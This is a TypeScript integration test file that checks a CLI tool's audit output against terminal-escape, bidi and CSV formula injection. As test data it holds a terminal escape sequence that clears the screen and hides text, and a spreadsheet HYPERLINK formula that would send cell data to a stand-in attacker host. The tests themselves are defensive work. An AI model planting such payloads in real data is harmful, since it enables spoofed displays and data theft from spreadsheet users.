import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type DynamoDBClient, UpdateItemCommand } from "@aws-sdk/client-dynamodb";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { DEMO_CONFIG } from "../../devtools/demo.js";
import type { EmulatorHandshake, EmulatorHandshakeResource } from "../../devtools/org-emulator/index.js";
import { sampleOrganization } from "../../devtools/sample-org.js";
import { TRIGGERS } from "../../src/domain/outcomes.js";
import { parseCsv, csvObjects as records } from "../support/csv.js";
import { localDynamoDbClient, runCli, type Stack, stackEnv, startStack } from "../support/stack.js";

/** Every character a terminal acts on instead of showing (the line feed aside), and the bidi controls. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
/** Clears the screen, sets the window title, then hides what follows and reverses the rest. */
const ESCAPE_ACTOR = "\u001b[2J\u001b]0;owned\u0007\u001b[8mhidden\u202eevil";
const ESCAPE_TARGET = "\u001b[2Jx\u009b31m@gmail.com";
const FORMULA_ACTOR = '=HYPERLINK("http://attacker.example/?"&A1,"click")';
const FORMULA_TARGET = "-2+3@gmail.com";
/** What a spreadsheet would take for a formula: a field that begins with one of these. */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i;

/** A period that holds the runs these tests make, now: it starts yesterday (UTC). */
const SINCE = new Date(Date.now() - 86_400_000).toISOString().slice(0, 10);

let stack: Stack;
let client: DynamoDBClient;
const dir = mkdtempSync(join(tmpdir(), "janitor-output-safety-"));

/** The sample organization with two open invitations addressed to hostile gmail targets instead. */
function hostileOrganization(): EmulatorHandshake[] {
  const handshakes = sampleOrganization(new Date());
  // Open invitations to an email outside any exemption: the new gmail targets make outside-email match.
  const invitations = handshakes.filter(
    (h) =>
      h.State === "OPEN" &&
      h.Action === "INVITE" &&
      h.Parties.some((p) => p.Type === "EMAIL" && !p.Id.endsWith("@partner.example")),
  );
  const swap = (h: EmulatorHandshake | undefined, to: string) => {
    const from = h?.Parties.find((p) => p.Type === "EMAIL")?.Id;
    if (!h || !from) throw new Error("the sample organization has too few open email invitations");
    const resources = (list: EmulatorHandshakeResource[] | undefined): EmulatorHandshakeResource[] =>
      (list ?? []).map((r) => ({
        ...r,
        ...(r.Value === from ? { Value: to } : {}),
        ...(r.Resources ? { Resources: resources(r.Resources) } : {}),
      }));
    h.Parties = h.Parties.map((p) => (p.Id === from ? { ...p, Id: to } : p));
    h.Resources = resources(h.Resources);
  };
  swap(invitations[0], ESCAPE_TARGET);
  swap(invitations[1], FORMULA_TARGET);
  return handshakes;
}

beforeAll(async () => {
  stack = await startStack(hostileOrganization());
  client = localDynamoDbClient(stack.db.endpoint);
}, 120_000);

afterAll(async () => {
  client?.destroy();
  await stack?.stop();
  rmSync(dir, { recursive: true, force: true });
});

async function dryRun(env: Record<string, string>, runId: string, actor: string) {
  const result = await runCli(
    ["run", "--config", DEMO_CONFIG, "--dry-run", "--run-id", runId, "--actor", actor],
    env,
  );
  expect(result.code, result.stderr).toBe(0);
  return result;
}

/** Fields a spreadsheet would evaluate: they begin with a trigger and are not a plain number. */
function formulaFields(csv: string): string[] {
  return parseCsv(csv)
    .flat()
    .filter((field) => FORMULA_START.test(field) && !PLAIN_NUMBER.test(field));
}

describe("table output", () => {
  it("shows an actor's and a target's control characters escaped in run, audit query and audit runs", async () => {
    const env = stackEnv(stack.org, stack.db, await stack.newTable());

    const run = await dryRun(env, "escape-run", ESCAPE_ACTOR);
    const query = await runCli(["audit", "query", "--run", "escape-run"], env);
    const runs = await runCli(["audit", "runs"], env);

    for (const result of [run, query, runs]) {
      expect(result.code, result.stderr).toBe(0);
      expect(result.stdout).not.toMatch(RAW_CONTROL);
    }
    expect(run.stdout).toContain("by \\x1b[2J\\x1b]0;owned\\x07\\x1b[8mhidden\\u202eevil");
    expect(run.stdout).toContain("\\x1b[2Jx\\x9b31m@gmail.com");
    expect(query.stdout).toContain("\\x1b[2Jx\\x9b31m@gmail.com");
    expect(runs.stdout).toContain("\\x1b[2J\\x1b]0;owned\\x07\\x1b[8mhidden\\u202eevil");
  }, 120_000);
});

describe("JSON output and the HTML report", () => {
  it("write C1 and bidi controls as \\u escapes in JSON, exact when parsed, and show them escaped in the report", async () => {
    const env = stackEnv(stack.org, stack.db, await stack.newTable());
    await dryRun(env, "bidi-run", ESCAPE_ACTOR);
    const out = join(dir, "bidi.jsonl");
    const page = join(dir, "bidi.html");

    const [query, exported, runJson, report] = await Promise.all([
      runCli(["audit", "query", "--run", "bidi-run", "--format", "json"], env),
      runCli(["audit", "export", "--since", SINCE, "--format", "jsonl", "--out", out], env),
      runCli(["run", "--config", DEMO_CONFIG, "--dry-run", "--json", "--actor", ESCAPE_ACTOR], env),
      runCli(["audit", "report", "--since", SINCE, "--out", page], env),
    ]);

    for (const result of [query, exported, runJson, report]) expect(result.code, result.stderr).toBe(0);
    for (const text of [query.stdout, readFileSync(out, "utf8"), runJson.stdout]) {
      expect(text).not.toMatch(RAW_CONTROL);
      const values = text
        .trim()
        .split("\n")
        .map((line) => JSON.parse(line) as Record<string, unknown>);
      expect(values.some((value) => value.actor === ESCAPE_ACTOR)).toBe(true);
    }
    expect(query.stdout).toContain("\\u202eevil");
    expect(query.stdout).toContain("x\\u009b31m@gmail.com");
    const html = readFileSync(page, "utf8");
    expect(html).not.toMatch(RAW_CONTROL);
    expect(html).toContain("hidden\\u202eevil");
    expect(html).toContain("\\x1b[2Jx\\x9b31m@gmail.com");
  }, 120_000);
});

describe("CSV output", () => {
  it("neutralises an actor and a target that begin like a formula in query, runs and export; JSON stays exact", async () => {
    const env = stackEnv(stack.org, stack.db, await stack.newTable());
    await dryRun(env, "formula-run", FORMULA_ACTOR);
    const out = join(dir, "export.csv");

    const [query, runs, exported, json] = await Promise.all([
      runCli(["audit", "query", "--run", "formula-run", "--format", "csv"], env),
      runCli(["audit", "runs", "--format", "csv"], env),
      runCli(["audit", "export", "--since", SINCE, "--format", "csv", "--out", out], env),
      runCli(["audit", "query", "--run", "formula-run", "--format", "json"], env),
    ]);

    for (const result of [query, runs, exported, json]) expect(result.code, result.stderr).toBe(0);
    const exportCsv = readFileSync(out, "utf8");
    for (const csv of [query.stdout, runs.stdout, exportCsv]) {
      expect(formulaFields(csv)).toEqual([]);
      // Ledger entries have no actor: what a run saw, not what someone did.
      const acted = records(csv).filter((row) => row.itemType !== "ledger");
      expect(acted.every((row) => row.actor === `'${FORMULA_ACTOR}`)).toBe(true);
    }
    expect(records(query.stdout).map((row) => row.target)).toContain(`'${FORMULA_TARGET}`);
    expect(records(exportCsv).map((row) => row.target)).toContain(`'${FORMULA_TARGET}`);
    const lines = json.stdout
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(lines.every((line) => line.actor === FORMULA_ACTOR)).toBe(true);
    expect(lines.map((line) => line.target)).toContain(FORMULA_TARGET);
  }, 120_000);
});

describe("an unreadable item", () => {
  it("is shown flagged by query, runs, report and export, which finish with a warning; verify names it", async () => {
    const tableName = await stack.newTable();
    const env = stackEnv(stack.org, stack.db, tableName);
    await dryRun(env, "damaged-run", "ops@cli");
    const json = await runCli(["audit", "query", "--run", "damaged-run", "--format", "json"], env);
    const intact = json.stdout
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line) as { handshakeId: string });
    const damaged = intact[0]?.handshakeId ?? "";
    const teleport = (sk: string) =>
      client.send(
        new UpdateItemCommand({
          TableName: tableName,
          Key: { pk: { S: "RUN#damaged-run" }, sk: { S: sk } },
          UpdateExpression: "SET #trigger = :t",
          ExpressionAttributeNames: { "#trigger": "trigger" },
          ExpressionAttributeValues: { ":t": { S: "teleport" } },
        }),
      );
    await teleport(`ACTION#${damaged}`);
    await teleport("RUN");
    const flag = `trigger is not ${TRIGGERS.join(" | ")}`;
    const report = join(dir, "report.html");
    const archive = join(dir, "damaged.jsonl");
    const csvArchive = join(dir, "damaged.csv");

    const [table, csv, jsonAfter, runs, html, jsonl, csvExport, verify] = await Promise.all([
      runCli(["audit", "query", "--run", "damaged-run"], env),
      runCli(["audit", "query", "--format", "csv"], env),
      runCli(["audit", "query", "--run", "damaged-run", "--format", "json"], env),
      runCli(["audit", "runs"], env),
      runCli(["audit", "report", "--since", SINCE, "--out", report], env),
      runCli(["audit", "export", "--since", SINCE, "--out", archive], env),
      runCli(["audit", "export", "--since", SINCE, "--format", "csv", "--out", csvArchive], env),
      runCli(["audit", "verify", "--run", "damaged-run"], env),
    ]);

    const warned = (result: { stderr: string }) =>
      Number(
        /^warning: (\d+) audit items? could not be read in full\b.*audit verify/.exec(result.stderr)?.[1],
      );
    for (const result of [table, csv, jsonAfter, runs, html, jsonl, csvExport]) {
      expect(result.code, result.stderr).toBe(0);
    }
    // The run item and one action item are damaged: each reader counts those it read.
    expect([table, csv, jsonAfter, runs, html, jsonl, csvExport].map(warned)).toEqual([1, 1, 1, 1, 2, 2, 2]);
    expect(table.stdout.split("\n")[0]).toMatch(/\bunreadable$/);
    expect(table.stdout).toContain(flag);
    const csvRows = records(csv.stdout);
    expect(csvRows).toHaveLength(intact.length);
    expect(csvRows.find((row) => row.handshakeId === damaged)?.unreadable).toBe(flag);
    expect(csvRows.filter((row) => row.unreadable !== "")).toHaveLength(1);
    const after = jsonAfter.stdout
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(after).toHaveLength(intact.length);
    const shown = after.find((row) => row.handshakeId === damaged);
    expect(shown).toMatchObject({ runId: "damaged-run", unreadable: flag, actor: "ops@cli" });
    expect(shown?.trigger).toBeUndefined();
    expect(runs.stdout).toContain(flag);
    expect(runs.stdout).toContain("damaged-run");
    const page = readFileSync(report, "utf8");
    expect(page).toContain(flag);
    expect(page.match(/<tr class="unreadable"/g)).toHaveLength(2);
    const archived = readFileSync(archive, "utf8")
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(
      archived
        .filter((row) => row.unreadable === flag)
        .map((row) => row.itemType)
        .sort(),
    ).toEqual(["action", "run"]);
    expect(archived.find((row) => row.handshakeId === damaged)).toMatchObject({ actor: "ops@cli" });
    expect(records(readFileSync(csvArchive, "utf8")).filter((row) => row.unreadable === flag)).toHaveLength(
      2,
    );
    expect(verify.code).toBe(5);
    expect(verify.stdout).toContain(`item ${damaged}: unreadable`);
  }, 180_000);
});
